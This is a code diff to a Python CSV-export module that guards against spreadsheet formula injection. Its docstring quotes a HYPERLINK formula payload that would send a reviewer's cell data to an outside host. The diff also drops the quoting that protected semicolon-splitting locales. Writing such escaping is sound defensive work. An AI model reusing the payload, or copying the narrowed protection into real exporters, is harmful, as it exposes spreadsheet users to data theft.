@@ -4,12 +4,10 @@ A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (so
 `|` and the full-width forms U+FF1D, U+FF0B, U+FF0D, U+FF20; a leading tab, carriage
 return or space does not stop it), so `=HYPERLINK("http://x?"&B2)` as an employee's name
 would send a reviewer's data away. As OWASP's CSV-injection guidance says, such a text
-cell gets a leading `'` and is quoted. A text cell in which a `;` is followed by one is
-quoted too: a spreadsheet that splits on `;` (the list separator of many locales) would
-otherwise start a cell there.
+cell gets a leading `'` and is quoted.
 
 Only text is escaped: numbers (`-12.50`) stay numbers. Every other cell is written exactly
-as before (RFC 4180, quoted only when it holds a comma, quote or line break), so normal data
+as before (RFC 4180, quoted when it holds a comma, quote or line break), so normal data
 gives the same bytes. A value that already starts with `'` before a formula character gets
 one more, so `unescape_cell` (and `unescape_sql` at ingest) gives back every value exactly.
 """
@@ -30,7 +28,7 @@ import pyarrow as pa
 _FORMULA = "[ ]*[=+\\-@\\t\\r|\uff1d\uff0b\uff0d\uff20]"
 _ESCAPE = re.compile("'*" + _FORMULA)
 _UNESCAPE = re.compile("'+" + _FORMULA)
-_QUOTE = re.compile(r'[,"\n\r]|;' + _FORMULA)
+_QUOTE = re.compile(r'[,"\n\r]')
 
 Cell = str | int | Decimal | None
 
@@ -101,10 +99,11 @@ def unescape_sql(expr: str) -> str:
 def text_field_sql(expr: str) -> str:
     """SQL for `text_field` of a VARCHAR expression, written by COPY with quoting off.
 
-    As DuckDB's own writer does, an empty string is quoted (`""`) and NULL is written as
-    an empty field. One regular expression decides the usual case: nothing to do.
+    Quoting follows DuckDB's own writer, whose bytes these files always had: it also quotes
+    `#` (its reader's comment character) and the empty string (NULL is an empty field).
+    One regular expression decides the usual case: nothing to do.
     """
-    special = _sql_str(f"{_QUOTE.pattern}|^'*{_FORMULA}")
+    special = _sql_str(f'[,"\\n\\r#]|^{_ESCAPE.pattern}')
     escaped = (
         f"CASE WHEN regexp_matches({expr}, {_sql_str('^' + _ESCAPE.pattern)}) "
         f"THEN '''' || {expr} ELSE {expr} END"
